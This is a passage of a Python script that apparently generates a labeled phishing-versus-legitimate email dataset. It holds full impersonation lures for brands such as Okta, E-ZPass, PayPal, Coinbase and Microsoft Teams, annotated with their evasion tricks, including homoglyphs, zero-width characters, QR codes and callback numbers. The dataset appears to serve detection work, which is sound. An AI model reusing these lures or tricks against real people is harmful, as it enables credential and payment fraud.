                   for s, f, d in [("Payment confirmation - wire ref 88211", "treasury@bnpparibas-pro.com", "10/06/2025"),
                                   ("Invoice INV-2025-0712 overdue", "compta@brevan-emballages.fr", "10/06/2025"),
                                   ("RE: Contract renewal", "legal@harborpallet.com", "09/06/2025")])
    html = page(f"""<p style="font-size:18px;font-weight:600">Quarantine Notification</p>
<p>You have 3 new messages held in quarantine for <b>{JUL[1]}</b>. These messages will be deleted after 3 days.</p>
<table cellpadding="6" style="font-size:12px;border-collapse:collapse;width:100%" border="1">
<tr style="background:#f3f2f1"><th>Subject</th><th>Sender</th><th>Date</th><th></th></tr>{rows}</table>
<br>{button(link, "Review all messages")}
<p style="font-size:11px;color:#605e5c">Microsoft Defender for Office 365 &middot; Do not reply to this message.</p>""")
    build(slug, "phishing",
          "quarantine-digest lookalike from a .online sender listing payment messages to release; every link is the "
          "same TinyURL shortener",
          rcpt=JUL, moment="2025-06-10T06:40:21+02:00",
          frm='"Microsoft Defender" <quarantine@mail-defender-notice.online>',
          subject="You have 3 messages held in quarantine",
          body=html_only(html),
          src=vps("mail-defender-notice.online", "US"),
          auth=Auth("quarantine@mail-defender-notice.online", spf="pass", dmarc="none"))

    # 34 ----------------------------------------------------------------- Okta Verify enrollment, inline QR
    slug = "okta-verify-enroll-inline-qr"
    url = "https://kerlann.okta-device-enroll.com/enroll/activate?token=" + hx(slug, 20, ALNUM) + "&u=" + b64s(MEG[1])
    cid = f"qr_{hx(slug, 10)}@okta"
    html = page(f"""<p style="font-size:20px;color:#00297a;font-weight:700">okta</p>
<p>Hi Megan,</p>
<p>Kerlann is moving to phishing-resistant sign-in. Enroll your phone in <b>Okta Verify</b> today to keep access to
email, Workday and the TMS after <b>Monday, November 3</b>.</p>
<p>Open your phone's camera and scan this code:</p>
<p><img src="cid:{cid}" width="180" height="180" alt="QR code"></p>
<p style="font-size:12px;color:#6e6e78">This enrollment code expires in 12 hours. Okta, Inc. 100 First Street, San Francisco, CA</p>""")
    build(slug, "phishing",
          "Okta Verify enrollment lure from okta-device-enroll.com; the only call to action is an inline QR code "
          "(PNG by Content-ID) to a kerlann.okta-device-enroll.com page with the base64 address",
          rcpt=MEG, moment="2025-10-30T15:17:44-04:00",
          frm='"Okta" <noreply@okta-device-enroll.com>',
          subject="Action required: enroll Okta Verify on your phone",
          body=related(slug, html, inline_png("qrcode.png", files.qr_png(url), cid)),
          src=vps("mail.okta-device-enroll.com", "US"),
          auth=Auth("noreply@okta-device-enroll.com", dkim=[("pass", "okta-device-enroll.com", "s1")], dmarc="none"))


def phishing_payment() -> None:
    # 35 ----------------------------------------------------------------- E-ZPass unpaid toll
    slug = "ezpass-unpaid-toll-top"
    link = "https://e-zpassny.com-tollpay.top/pay?inv=EZ" + hx(slug, 8, DIGITS)
    html = page(f"""<p style="font-size:22px;font-weight:700;color:#5b2a86">E-ZPass<sup>&reg;</sup> New York</p>
<p><b>Notice of Unpaid Toll</b></p>
<p>Our records show that your vehicle has an unpaid toll of <b>$6.85</b> from a Tolls by Mail transaction on
I-87 (Tappan Zee / Mario M. Cuomo Bridge).</p>
<p>To avoid a late fee of $50.00 and the possible suspension of your vehicle registration, please settle the
balance by <b>July 19, 2025</b>.</p>
{button(link, "Pay Now", "#5b2a86")}
<p style="font-size:11px;color:#777">E-ZPass New York Customer Service Center. Please do not reply to this email.</p>""")
    build(slug, "phishing",
          "E-ZPass unpaid-toll lure from ezpass-tollservices.top; Pay Now goes to e-zpassny.com-tollpay.top, the real "
          "domain name as a prefix of a .top host; small amount and late-fee threat",
          rcpt=MEG, moment="2025-07-16T19:42:08-04:00",
          frm='"E-ZPass NY" <notice@ezpass-tollservices.top>',
          subject="Final notice: unpaid toll balance $6.85",
          body=alt(slug, f"E-ZPass New York - Notice of Unpaid Toll\nUnpaid toll: $6.85. Pay by July 19, 2025 to "
                         f"avoid a $50.00 late fee: {link}\n", html, "kit"),
          src=vps("mail.ezpass-tollservices.top", "CN"),
          auth=Auth("notice@ezpass-tollservices.top", spf="pass", dmarc="none"))

    # 36 ----------------------------------------------------------------- SunPass via bit.ly, compromised WordPress
    slug = "sunpass-invoice-bitly-compromised-site"
    link = "https://bit.ly/4fQz" + hx(slug, 3, ALNUM)
    plain = f"""SunPass Customer Service

Dear Customer,

You have an outstanding toll invoice of $4.15 for travel on Florida's Turnpike (Miami-Dade). Your account
shows no valid payment method on file. A late fee of $25.00 will apply if the invoice is not paid within 2 days.

Pay online: {link}

Thank you for using SunPass.
Florida Department of Transportation
"""
    build(slug, "phishing",
          "SunPass toll invoice sent from a compromised yoga studio's WordPress server (its own SPF passes); the "
          "payment link is a bit.ly shortener",
          rcpt=RYA, moment="2025-04-07T21:14:39-04:00",
          frm='"SunPass" <wordpress@lakewoodyogastudio.org>',
          subject="SunPass: Outstanding toll invoice #FL-20471",
          body=text(plain),
          src=Src("lakewoodyogastudio.org", "server.lakewoodyogastudio.org", "162.241.118.33"),
          auth=Auth("wordpress@lakewoodyogastudio.org", dmarc="none"),
          extra=("X-Mailer: PHPMailer 6.8.1 (https://github.com/PHPMailer/PHPMailer)",
                 "X-PHP-Originating-Script: 1004:class.wp-mail.php"))

    # 37 ----------------------------------------------------------------- FasTrak, Cyrillic a and zero-width chars
    slug = "fastrak-cyrillic-zero-width"
    zw = "\u200b"
    brand = "Fа" + zw + "sTrak"  # Cyrillic a
    link = "https://fastrak-bayarea.icu/balance?plate=" + hx(slug, 7, UPPER)
    html = page(f"""<p style="font-size:22px;font-weight:700;color:#00558c">{brand}</p>
<p>Dear customer,</p>
<p>Your {brand} account has an out{zw}standing toll bal{zw}ance of <b>$11.40</b> for the Bay Bridge. Please pay
within 48 hours to avoid a pe{zw}nalty of $25 per trip and referral to the DMV.</p>
{button(link, "Pay balance", "#00558c")}
<p style="font-size:11px;color:#777">The Bay Area Toll Authority. This is an automated notification.</p>""")
    build(slug, "phishing",
          "FasTrak balance notice whose brand name is written with a Cyrillic a and zero-width spaces (also in "
          "the subject and key words) to dodge keyword filters; link to a .icu host",
          rcpt=DAN, moment="2025-08-27T22:05:16-04:00",
          frm=f'{encoded_word("Fа" + "sTrak Bay Area")} <billing@toll-notice-center.icu>',
          subject=f"{brand}: outstanding toll balance - act within 48 hours",
          body=alt(slug, f"{brand}: outstanding toll balance $11.40. Pay within 48 hours: {link}\n", html, "kit"),
          src=vps("toll-notice-center.icu", "HK"),
          auth=Auth("billing@toll-notice-center.icu", spf="neutral", dmarc="none"))

    # 38 ----------------------------------------------------------------- USPS redelivery
    slug = "usps-redelivery-site"
    link = "https://usps-redeliver.site/track/?tn=9400111206213" + hx(slug, 9, DIGITS)
    html = page(f"""<div style="background:#333366;padding:14px;color:#fff;font-size:20px;font-weight:700">USPS.COM</div>
<p><b>Delivery attempt unsuccessful</b></p>
<p>Your package could not be delivered on 03/25/2025 because the address information was incomplete.
Please update your delivery address and pay the $0.35 redelivery fee within 12 hours; otherwise the package will be
returned to the sender.</p>
<p>Tracking number: 9400 1112 0621 3{hx(slug, 9, DIGITS)}</p>
{button(link, "Schedule Redelivery", "#333366")}
<p style="font-size:11px;color:#777">&copy; 2025 USPS. All rights reserved.</p>""")
    build(slug, "phishing",
          "USPS failed-delivery lure from a .shop sender asking for a $0.35 fee within 12 hours; link to a .site host",
          rcpt=PRI, moment="2025-03-26T07:55:02-04:00",
          frm='"USPS" <track@usps-delivery-status.shop>',
          subject="USPS: Your package delivery attempt was unsuccessful",
          body=html_only(html),
          src=vps("usps-delivery-status.shop", "SG"),
          auth=Auth("track@usps-delivery-status.shop", spf="pass", dmarc="none"))

    # 39 ----------------------------------------------------------------- Geek Squad PDF callback
    slug = "geek-squad-renewal-pdf-callback"
    pdf = files.pdf([
        "GEEK SQUAD PROTECTION - INVOICE",
        "",
        "Invoice No: GS-88216409          Date: 09/09/2025",
        "Customer ID: GSQ-44710-US",
        "",
        "Product: Geek Squad Total Tech Support (3 Years, 5 Devices)",
        "Payment method: Auto-debit",
        "Amount: $489.99",
        "",
        "Your subscription has been renewed and the amount will be debited",
        "within 24 hours. If you did not authorize this renewal or wish to",
        "cancel and receive a refund, call our billing department:",
        "",
        "+1 (844) 555-0139   (Mon-Sat 8 AM - 8 PM EST)",
        "",
        "Geek Squad Services, 7601 Penn Ave S, Richfield, MN 55423",
    ], title="Invoice GS-88216409")
    build(slug, "phishing",
          "callback scam: Geek Squad renewal 'invoice' from a personal Gmail; the phone number to cancel the $489.99 "
          "charge is only in the PDF, no link",
          rcpt=MEG, moment="2025-09-09T11:37:25-04:00",
          frm='"Geek Squad Billing" <billingdept.gs8841@gmail.com>',
          subject="Order Confirmation - Invoice GS-88216409",
          body=mixed(slug, alt(slug, "Dear Customer,\n\nThank you for renewing your subscription. Please find "
                                     "your invoice attached.\n\nRegards,\nBilling Department",
                               "<div dir=\"ltr\">Dear Customer,<br><br>Thank you for renewing your subscription. "
                               "Please find your invoice attached.<br><br>Regards,<br>Billing Department</div>",
                               "gmail"),
                     attachment("application/pdf", "Invoice_GS88216409.pdf", pdf), style="gmail"),
          src=gmail_src(slug),
          auth=Auth("billingdept.gs8841@gmail.com", dkim=[("pass", "gmail.com", "20230601")], policy="none"),
          to="undisclosed-recipients:;")

    # 40 ----------------------------------------------------------------- genuine PayPal invoice abused for callback
    slug = "paypal-invoice-abused-callback"
    pay = "https://www.paypal.com/invoice/p/#INV2-" + hx(slug, 4, UPPER) + "-" + hx(slug + "b", 4, UPPER) + "-" + hx(slug + "c", 4, UPPER)
    html = page(f"""<p style="font-size:22px;font-weight:700;color:#003087">PayPal</p>
<p style="font-size:16px"><b>Norton Billing Dept.</b> sent you an invoice for <b>$599.00 USD</b></p>
<p>Due on receipt</p>
<p style="background:#f5f7fa;padding:12px"><b>Note from seller:</b> Your Norton 360 Total Security annual plan has been
renewed and $599.00 will be charged to your account. If you did not authorize this transaction or want a refund,
contact our billing support at +1 (808) 555-0172 within 24 hours.</p>
{button(pay, "View and Pay Invoice", "#0070e0")}
<p style="font-size:11px;color:#666">Invoice ID: INV2-{hx(slug, 4, UPPER)}. Don't recognize this invoice? Report it.<br>
PayPal is located at 2211 North First Street, San Jose, CA 95131</p>""", font="Helvetica,Arial,sans-serif")
    build(slug, "phishing",
          "genuine PayPal invoice (service@paypal.com passes everything) from a seller named 'Norton Billing Dept.'; "
          "the seller's note carries a phone number to 'cancel' a $599 charge",
          rcpt=RYA, moment="2025-11-04T16:28:50-05:00",
          frm='"service@paypal.com" <service@paypal.com>',
          subject="Invoice from Norton Billing Dept. (0087)",
          body=alt(slug, "Norton Billing Dept. sent you an invoice for $599.00 USD.\nNote from seller: ... contact "
                         "our billing support at +1 (808) 555-0172 within 24 hours.\n" + pay + "\n", html, "other"),
          src=Src("mx0.slc.paypal.com", "mx0.slc.paypal.com", "173.0.84.227"),
          auth=Auth("service@paypal.com", dkim=[("pass", "paypal.com", "pp-dkim1")], policy="reject"))

    # 41 ----------------------------------------------------------------- Norton with soft hyphens
    slug = "norton-renewal-soft-hyphen-callback"
    sh = "\u00ad"
    plain = (f"Dear Customer,\n\nYour Nor{sh}ton 360 Deluxe sub{sh}scription (Order #NT-8841-2209) has been "
             f"auto-re{sh}newed for $399.99 and will be char{sh}ged to your card today.\n\nIf you wish to can{sh}cel "
             f"and request a re{sh}fund, call our help desk within 24 hours: +1 (888) 555-0126\n\nRegards,\n"
             f"Nor{sh}ton Life{sh}Lock Billing\n")
    build(slug, "phishing",
          "Norton auto-renewal callback scam from an Outlook.com address; soft hyphens break up brand and money "
          "words (Nor-ton, re-fund, can-cel); only a phone number to act on",
          rcpt=PRI, moment="2025-02-25T10:11:37-05:00",
          frm='"NortonLifeLock" <norton.billing.center@outlook.com>',
          subject=f"Your Nor{sh}ton subscription has been renewed - $399.99",
          body=alt(slug, plain, "<div>" + plain.replace("\n", "<br>") + "</div>"),
          src=outlook_src(slug),
          auth=Auth("norton.billing.center@outlook.com", dkim=[("pass", "outlook.com", "selector1")], policy="none"),
          to="undisclosed-recipients:;")

    # 42 ----------------------------------------------------------------- McAfee image-only callback
    slug = "mcafee-image-only-callback"
    img = text_png([
        ("McAfee Total Protection", 22, (255, 255, 255)),
        ("", 10, (0, 0, 0)),
        ("Thank you for your order", 20, (30, 30, 30)),
        ("Order ID: MCF-2025-771043      Date: 12/01/2025", 15, (30, 30, 30)),
        ("Plan: Total Protection Premium - 10 devices - 2 years", 15, (30, 30, 30)),
        ("Amount charged: $349.99", 17, (192, 0, 0)),
        ("", 8, (0, 0, 0)),
        ("Not you? To cancel and get a refund, call:", 15, (30, 30, 30)),
        ("+1 (877) 555-0154", 26, (192, 0, 0)),
    ], (620, 380), header=(192, 0, 0))
    cid = f"mc_{hx(slug, 8)}"
    html = f'<html><body><img src="cid:{cid}" width="620" height="380" alt=""></body></html>\n'
    build(slug, "phishing",
          "McAfee order-confirmation callback scam whose body is a single image carrying the amount and the phone "
          "number; no text, no link; sent from a Gmail address to undisclosed recipients",
          rcpt=DAN, moment="2025-12-01T08:02:46-05:00",
          frm='"McAfee Billing" <mcafee.orders.dept@gmail.com>',
          subject="Order Confirmation MCF-2025-771043",
          body=related(slug, html, inline_png("order.png", img, cid), style="gmail"),
          src=gmail_src(slug),
          auth=Auth("mcafee.orders.dept@gmail.com", dkim=[("pass", "gmail.com", "20230601")], policy="none"),
          to="undisclosed-recipients:;")

    # 43 ----------------------------------------------------------------- Amazon refund on Glitch
    slug = "amazon-refund-approved-glitch"
    link = "https://amazon-refund-claim.glitch.me/claim?order=113-" + hx(slug, 7, DIGITS) + "-" + hx(slug + "o", 7, DIGITS)
    html = page(f"""<p style="font-size:22px;font-weight:700">amazon</p>
<p>Hello,</p>
<p>Your refund of <b>$249.00</b> for order 113-{hx(slug, 7, DIGITS)}-{hx(slug + 'o', 7, DIGITS)} has been approved.
To receive the funds on your original payment method, confirm your billing details within 72 hours.</p>
{button(link, "Claim your refund", "#ff9900")}
<p style="font-size:11px;color:#777">Amazon.com, 410 Terry Ave N, Seattle, WA 98109</p>""", font="Arial,sans-serif")
    build(slug, "phishing",
          "Amazon 'refund approved' from amzn-refund-center.com asking to confirm billing details; link to a "
          "glitch.me project",
          rcpt=MEG, moment="2025-05-02T12:48:11-04:00",
          frm='"Amazon.com" <refunds@amzn-refund-center.com>',
          subject="Your refund of $249.00 has been approved",
          body=html_only(html),
          src=vps("mail.amzn-refund-center.com", "US"),
          auth=Auth("refunds@amzn-refund-center.com", dkim=[("pass", "amzn-refund-center.com", "k1")], dmarc="none"))

    # 44 ----------------------------------------------------------------- Apple refund, Cyrillic A in display name
    slug = "apple-refund-cyrillic-display-name"
    link = "https://apple-refund-status.cfd/case?id=" + hx(slug, 10, DIGITS)
    html = page(f"""<p style="font-size:24px;text-align:center">&#63743;</p>
<p style="font-size:18px;text-align:center"><b>Your refund request</b></p>
<p>We received a refund request for <b>Final Cut Pro</b> (299,99 &euro;) billed to your Apple Account on 14 Feb 2025.</p>
<p>If you did not request this refund or do not recognise the purchase, review the case below. Unreviewed cases are
closed after 24 hours.</p>
{button(link, "Review request", "#0071e3")}
<p style="font-size:11px;color:#86868b">Apple Distribution International Ltd., Hollyhill Industrial Estate, Cork, Ireland</p>""",
                font="-apple-system,Helvetica,Arial,sans-serif")
    build(slug, "phishing",
          "Apple refund lure whose display name starts with a Cyrillic A ('Аpple Support'), sent from a .sbs "
          "domain; link to a .cfd case page",
          rcpt=CAM, moment="2025-02-15T19:20:33+01:00",
          frm=f'{encoded_word("Аpple Support")} <support@apple-id-care.sbs>',
          subject="Your refund request for Final Cut Pro",
          body=html_only(html),
          src=vps("mail.apple-id-care.sbs", "US"),
          auth=Auth("support@apple-id-care.sbs", dkim=[("pass", "apple-id-care.sbs", "default")], dmarc="none"))

    # 45 ----------------------------------------------------------------- Coinbase withdrawal, cancel here
    slug = "coinbase-withdrawal-cancel-link"
    link = "https://coinbase.cancel-withdrawal.online/cancel?req=" + hx(slug, 24)
    html = page(f"""<p style="font-size:22px;font-weight:700;color:#0052ff">coinbase</p>
<p style="font-size:18px"><b>Withdrawal request received</b></p>
<table cellpadding="4" style="font-size:13px"><tr><td>Amount</td><td><b>0.4187 BTC</b> (&asymp; $28,214.55)</td></tr>
<tr><td>Destination</td><td>bc1q9x7h4kd2m3ja5c8ngw0mzt6y4ukf5r2qpl8sx3</td></tr>
<tr><td>Device</td><td>Chrome on Windows, Kyiv, UA</td></tr></table>
<p>If this wasn't you, cancel the withdrawal immediately and secure your account:</p>
{button(link, "Cancel withdrawal", "#cf202f")}
<p style="font-size:11px;color:#777">Coinbase will never ask you for your password or 2-step verification codes.</p>""")
    build(slug, "phishing",
          "crypto withdrawal confirmation (0.4187 BTC) from coinbase-security-alerts.com with a 'cancel withdrawal' "
          "link to coinbase.cancel-withdrawal.online",
          rcpt=OLI, moment="2025-12-09T02:14:05+00:00",
          frm='"Coinbase" <no-reply@coinbase-security-alerts.com>',
          subject="Withdrawal request: 0.4187 BTC",
          body=html_only(html),
          src=vps("mail.coinbase-security-alerts.com", "US"),
          auth=Auth("no-reply@coinbase-security-alerts.com", dkim=[("pass", "coinbase-security-alerts.com", "s")],
                    dmarc="none"))


def phishing_attachments() -> None:
    # 46 ----------------------------------------------------------------- remittance advice as attached .eml
    slug = "remittance-advice-attached-eml"
    link = "https://remit-view-88231.firebaseapp.com/advice?pid=88231&u=" + quote(RYA[1])
    inner = ("From: \"Mesa Roofing Co. - Accounts Payable\" <ap@mesaroofingco.com>\n"
             f"To: {RYA[1]}\n"
             "Subject: Remittance Advice - Payment #88231\n"
             "Date: Tue, 21 Oct 2025 09:02:11 -0600\n"
             f"Message-ID: <{hx(slug + 'inner', 20, ALNUM)}@mesaroofingco.com>\n"
             "MIME-Version: 1.0\n"
             "Content-Type: text/html; charset=\"utf-8\"\n"
             "Content-Transfer-Encoding: 7bit\n\n"
             + page(f"""<p><b>Remittance Advice</b></p>
<p>A payment of <b>$18,742.60</b> has been released to Kerlann Logistics Inc. (Payment #88231, ACH).</p>
<p>Invoices paid: KL-30419, KL-30442, KL-30457</p>
{button(link, "View Remittance Details")}
<p style="font-size:11px;color:#777">Sign in with your email account to view the secure remittance PDF.</p>"""))
    build(slug, "phishing",
          "payment-advice lure from a compromised customer's mailbox (all authentication passes); the link is inside "
          "an attached .eml message and leads to a firebaseapp.com page carrying the address",
          rcpt=RYA, moment="2025-10-21T11:05:49-04:00",
          frm='"Mesa Roofing AP" <ap@mesaroofingco.com>',
          subject="FW: Remittance Advice - Payment #88231",
          body=mixed(slug, alt(slug,
                "Hi,\n\nPlease see attached remittance advice for this week's payment.\n\nThanks,\nAccounts Payable\n"
                "Mesa Roofing Co.",
                plain_html(["Hi,", "Please see attached remittance advice for this week's payment.",
                            "Thanks,\nAccounts Payable\nMesa Roofing Co."])),
                Leaf("message/rfc822", inner.encode(), "7bit", f'; name="Remittance Advice 88231.eml"',
                     'attachment; filename="Remittance Advice 88231.eml"')),
          src=tenant_src(slug, "nam10"),
          auth=Auth("ap@mesaroofingco.com", dkim=[("pass", "mesaroofingco.com", "selector1")], policy="none"))

    # 47 ----------------------------------------------------------------- French payment notice, PDF with QR
    slug = "avis-de-virement-pdf-qr-fr"
    url = "https://atlantique-palette.fr.docs-virement.top/avis/?ref=VIR-2025-0318&m=" + b64s(JUL[1])
    pdf = pdf_with_qr([
        "ATLANTIQUE PALETTES SAS",
        "Avis de virement - Ref. VIR-2025-0318",
        "",
        "Beneficiaire : Kerlann Industries",
        "Montant : 27 416,80 EUR",
        "Factures reglees : FA-2025-0211, FA-2025-0233",
        "",
        "Le detail du virement est disponible sur notre espace securise.",
        "Scannez le code QR avec votre telephone pour le consulter :",
    ], url, "Avis de virement VIR-2025-0318",
        below=["Lien valable 48 heures. Connexion avec votre adresse professionnelle."])
    build(slug, "phishing",
          "French payment notice from atlantique-palettes-sas.fr (a lookalike of a supplier); the PDF's only call "
          "to action is a QR code image to a .top host starting with the supplier's domain",
          rcpt=JUL, moment="2025-03-18T14:33:27+01:00",
          frm='"Atlantique Palettes - Comptabilité" <comptabilite@atlantique-palettes-sas.fr>',
          subject="Avis de virement - Réf. VIR-2025-0318",
          body=mixed(slug, alt(slug,
                "Bonjour,\n\nVeuillez trouver ci-joint l'avis de virement correspondant au règlement de vos factures.\n\n"
                "Cordialement,\nService Comptabilité\nAtlantique Palettes SAS",
                plain_html(["Bonjour,", "Veuillez trouver ci-joint l'avis de virement correspondant au règlement de "
                            "vos factures.", "Cordialement,\nService Comptabilité\nAtlantique Palettes SAS"])),
                attachment("application/pdf", "Avis_de_virement_VIR-2025-0318.pdf", pdf)),
          src=vps("mail.atlantique-palettes-sas.fr", "FR"),
          auth=Auth("comptabilite@atlantique-palettes-sas.fr", dkim=[("pass", "atlantique-palettes-sas.fr", "mail")],
                    dmarc="none"),
          extra=("Content-Language: fr-FR",))

    # 48 ----------------------------------------------------------------- encrypted message portal on trycloudflare
    slug = "secure-message-trycloudflare"
    link = "https://specifications-mortgage-alert-doing.trycloudflare.com/secure/?msg=" + hx(slug, 12) + "#" + b64s(SOP[1])
    html = page(f"""<p style="font-size:18px;font-weight:600">&#128274; You have received a secure message</p>
<p><b>Harbor Pallet Supply LLC</b> (k.whitfield@harborpallet.com) has sent you an encrypted message:</p>
<p style="background:#f3f2f1;padding:10px">Subject: Updated vendor agreement and payment schedule</p>
{button(link, "Read the message")}
<p style="font-size:12px">To read the message you will be asked to complete a quick check (CAPTCHA) and to sign in
with the email address the message was sent to.</p>
<p style="font-size:11px;color:#605e5c">Message encryption by Microsoft Purview. This message expires in 7 days.</p>""")
    build(slug, "phishing",
          "Purview 'encrypted message' lookalike naming a real supplier, sent from encrypted-msg-portal.site; link to "
          "a trycloudflare.com tunnel behind a CAPTCHA with the address base64 in the #fragment",
          rcpt=SOP, moment="2025-09-30T10:21:48+02:00",
          frm='"Harbor Pallet Supply via Secure Message" <securemail@encrypted-msg-portal.site>',
          subject="Encrypted message from Harbor Pallet Supply LLC",
          body=html_only(html),
          src=vps("encrypted-msg-portal.site", "US"),
          auth=Auth("securemail@encrypted-msg-portal.site", spf="pass",
                    dkim=[("pass", "encrypted-msg-portal.site", "default")], dmarc="none"))

    # 49 ----------------------------------------------------------------- Adobe campaign redirector
    slug = "adobe-document-adobe-campaign-redirect"
    target = "https://view-doc-kerlann.sbs/adobe/?e=" + b64s(CAM[1])
    link = ("https://t-info.mail.adobe.com/r/?id=h" + hx(slug, 8) + "," + hx(slug + "a", 8) + "," + hx(slug + "b", 8)
            + "&p1=" + target.replace("https://", ""))
    html = page(f"""<p style="font-size:20px;color:#eb1000;font-weight:700">Adobe Acrobat</p>
<p><b>Brevan Emballages</b> has shared a document with you</p>
<p>&#128196; <b>Bon_de_commande_BC-7812_signe.pdf</b> (2 pages)</p>
{button(link, "Open in Adobe Acrobat", "#eb1000")}
<p style="font-size:11px;color:#707070">Adobe Document Cloud. To stop receiving these emails, unsubscribe.</p>""")
    build(slug, "phishing",
          "Adobe 'shared a document' lookalike naming a supplier, sent from a compromised notary's mailbox; the "
          "button goes through Adobe's own t-info.mail.adobe.com redirector to a .sbs page with the base64 address",
          rcpt=CAM, moment="2025-06-26T09:47:13+02:00",
          frm='"Adobe Acrobat" <office@etude-kervella-notaires.fr>',
          subject="Brevan Emballages has shared \"Bon_de_commande_BC-7812_signe.pdf\" with you",
          body=html_only(html),
          src=Src("smtp-out.ionos.fr", "mout.kundenserver.de", "212.227.126.187", "DE"),
          auth=Auth("office@etude-kervella-notaires.fr", dkim=[("pass", "etude-kervella-notaires.fr", "s1-ionos")],
                    policy="none"),
          to="undisclosed-recipients:;")

    # 50 ----------------------------------------------------------------- Teams meeting ICS, fake join link
    slug = "teams-meeting-ics-fake-join"
    link = "https://teams.microsoft-meet.live/l/meetup-join/19%3ameeting_" + hx(slug, 40, ALNUM) + "%40thread.v2/0?ctx=" + b64s(DAN[1])
    desc = ("________________________________________________________________________________\n"
            "Microsoft Teams meeting\nJoin on your computer, mobile app or room device\n"
            f"Click here to join the meeting <{link}>\n"
            "Meeting ID: 271 447 903 618\nPasscode: qT6fZ2\n\n"
            "Agenda: FY26 budget reallocation - please review the shared workbook before joining (sign in required).\n"
            "________________________________________________________________________________")
    cal = ics(f"040000008200E00074C5B7101A82E008000000{hx(slug, 32).upper()}", "FY26 Budget Reallocation - Leadership",
              "20250923T140000Z", "20250923T143000Z", "CN=Hélène Marchand:mailto:h.marchand@kerlann-exec.com",
              DAN[1], desc, "Microsoft Teams Meeting", stamp="20250922T181500Z")
    html = page("<p>" + desc.replace("\n", "<br>").replace(f"<{link}>", f'<a href="{link}">Join the meeting now</a>') + "</p>")
    build(slug, "phishing",
          "Teams meeting invitation in the CEO's name from kerlann-exec.com; the join link in the invite and its "
          ".ics goes to teams.microsoft-meet.live, not teams.microsoft.com",
          rcpt=DAN, moment="2025-09-22T14:15:06-04:00",
          frm=f'{encoded_word("Hélène Marchand")} <h.marchand@kerlann-exec.com>',
          subject="FY26 Budget Reallocation - Leadership",
          body=Multi("alternative", boundary(slug, "outlook", 1), [text(desc), text(html, "html"), cal_part(cal)]),
          src=vps("mail.kerlann-exec.com", "US"),
          auth=Auth("h.marchand@kerlann-exec.com", dkim=[("pass", "kerlann-exec.com", "default")], dmarc="none"),
          extra=("X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ", "Content-Language: en-US"))


# =========================================================================== legitimate


def internal_src(seed: str) -> Src:
    n = hx(seed, 4, DIGITS)
    host = f"PR3PR02MB{n}.eurprd02.prod.outlook.com"
    return Src(host, host, f"2603:10a6:102:{hx(seed + 'v6', 3)}::{hx(seed + 'w6', 2)}", "FR")


INTERNAL_EXTRA = ("X-MS-Has-Attach: ", "X-MS-TNEF-Correlator: ", "Content-Language: fr-FR",
                  "X-MS-Exchange-Organization-RecordReviewCfmType: 0")


def legitimate_clean() -> None:
    # C1 ----------------------------------------------------------------- colleague shares a SharePoint link internally
    slug = "colleague-sharepoint-link-internal"
    link = ("https://kerlannindustries.sharepoint.com/:x:/s/Operations/EVm2" + hx(slug, 38, ALNUM) +
            "?e=" + hx(slug + "e", 6, ALNUM))
    plain = f"""Salut Camille,

Here's the transport rates workbook we talked about this morning, on the Operations site:
{link}

I've added the new Brest and Lorient lanes in the "2025" tab. Can you check the fuel surcharge column before
Thursday's meeting with Thomas? You should have edit rights, tell me if not.

Merci,
Erwan

Erwan Cadiou
Responsable Systèmes d'Information | Kerlann Industries
ZA de la Janais, 35170 Bruz
"""
    build(slug, "clean",
          "a colleague writes from inside the tenant (internal Exchange route, no external hop) with a link to the "
          "company's own SharePoint site kerlannindustries.sharepoint.com",
          rcpt=CAM, moment="2025-03-04T11:22:05+01:00", frm=person(ERW),
          subject="Transport rates 2025 - workbook on SharePoint",
          body=alt(slug, plain, plain_html(plain.split("\n\n"))),
          src=internal_src(slug), auth=Auth(ERW[1], dkim=[], dmarc="none"), internal=True,
          msgid=f"<PR3PR02MB{hx(slug, 4, DIGITS)}{hx(slug, 12, UPPER)}@PR3PR02MB{hx(slug, 4, DIGITS)}.eurprd02.prod.outlook.com>",
          extra=INTERNAL_EXTRA + ("Thread-Topic: Transport rates 2025 - workbook on SharePoint",))

    # C2 ----------------------------------------------------------------- Workday task notification
    slug = "workday-open-enrollment-task"
    link = "https://wd5.myworkday.com/kerlann/d/inst/15$369946/9925$" + hx(slug, 6, DIGITS) + ".htmld"
    html = page(f"""<p style="font-size:18px;color:#005cb9;font-weight:600">workday</p>
<p>Megan Doyle,</p>
<p>You have a new task in your Workday inbox: <b>Benefit Change - Open Enrollment 2026</b>.</p>
<p>Open Enrollment runs November 3 - November 14, 2025. Sign in to Workday through the Kerlann Okta dashboard to
review your medical, dental, vision and HSA elections. If you make no changes, your current elections roll over,
except HSA contributions, which must be re-elected.</p>
<p><a href="{link}">View task in Workday</a></p>
<p style="font-size:11px;color:#666">This is a system-generated notification from Kerlann Logistics Inc.'s Workday
tenant. Questions? Contact Priya Nair, HR &amp; Payroll.</p>""", font="Arial,sans-serif")
    build(slug, "clean",
          "Workday inbox-task notice from the tenant's own myworkday.com address (SPF, DKIM, DMARC pass), link to "
          "wd5.myworkday.com/kerlann; says to sign in through the usual dashboard; twin of the enrollment phish",
          rcpt=MEG, moment="2025-11-03T08:00:41-05:00",
          frm='"Workday" <kerlann@myworkday.com>',
          subject="Inbox: Benefit Change - Open Enrollment 2026",
          body=alt(slug, "You have a new task in your Workday inbox: Benefit Change - Open Enrollment 2026.\n"
                         f"View task: {link}\n", html, "other"),
          src=Src("wd5-smtp.myworkday.com", "wd5-smtp-out2.myworkday.com", "216.67.208.41"),
          auth=Auth("kerlann@myworkday.com", dkim=[("pass", "myworkday.com", "wd-2023")], policy="reject"))

    # C3 ----------------------------------------------------------------- DocuSign envelope from a real partner
    slug = "docusign-partner-envelope"
    link = ("https://na3.docusign.net/Signing/EmailStart.aspx?a=" + uuid(slug) + "&etti=24&acct=" + uuid(slug + "a")
            + "&er=" + uuid(slug + "r"))
    html = page(f"""<div style="background:#1e1e1e;padding:18px;color:#fff;font-size:20px;font-weight:700">Docusign</div>
<div style="background:#4c00ff;padding:28px;color:#fff;text-align:center">
<p style="font-size:16px">Marisa Lowell sent you a document to review and sign.</p>
<a href="{link}" style="background:#ffc820;color:#000;padding:10px 24px;text-decoration:none;font-weight:700">REVIEW DOCUMENT</a></div>
<p><b>Marisa Lowell</b><br>mlowell@blueridgecold.com</p>
<p>Hi Ryan, here is the storage agreement amendment we agreed on the call (new pallet rate from Jan 1). Section 4
is the only change. Thanks! Marisa</p>
<p style="font-size:12px"><b>Do Not Share This Email</b><br>This email contains a secure link to Docusign.
Please do not share this email, link, or access code with others.</p>
